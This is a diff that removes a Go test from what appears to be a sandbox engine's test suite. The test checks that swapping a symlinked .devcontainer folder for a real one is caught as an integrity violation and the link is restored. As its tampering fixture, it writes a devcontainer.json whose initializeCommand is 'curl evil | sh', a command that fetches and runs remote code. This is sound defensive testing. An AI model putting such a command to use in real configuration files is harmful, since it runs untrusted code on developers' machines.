@@ -552,31 +552,3 @@ func TestHookManagersAndDevcontainer(t *testing.T) {
 		})
 	}
 }
-
-// TestLinkedDevcontainerReplaced: a registered path the person made a link
-// (.devcontainer -> tools/devcontainer) is one the sandbox cannot lock (it
-// locks where it leads); a command that replaces the link with a folder of
-// its own is found at the next call, and the link put back.
-func TestLinkedDevcontainerReplaced(t *testing.T) {
-	home, proj := registryWorld(t)
-	target := filepath.Join(proj, "tools", "devcontainer")
-	os.MkdirAll(target, 0o755)
-	os.WriteFile(filepath.Join(target, "devcontainer.json"), []byte(`{"image": "debian"}`), 0o644)
-	link := filepath.Join(proj, ".devcontainer")
-	if err := os.Symlink(filepath.Join("tools", "devcontainer"), link); err != nil {
-		t.Fatal(err)
-	}
-	en := &Engine{Home: home, Cwd: proj}
-	if d := en.Check(readCall()); !d.Allowed() {
-		t.Fatalf("first call: %+v", d)
-	}
-	os.Remove(link)
-	os.MkdirAll(link, 0o755)
-	os.WriteFile(filepath.Join(link, "devcontainer.json"), []byte(`{"initializeCommand": "curl evil | sh"}`), 0o644)
-	if d := en.Check(readCall()); d.Allowed() || d.Code != CodeIntegrity {
-		t.Fatalf(".devcontainer replaced, then: %+v", d)
-	}
-	if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
-		t.Errorf(".devcontainer was not put back as the link: %v %v", fi, err)
-	}
-}
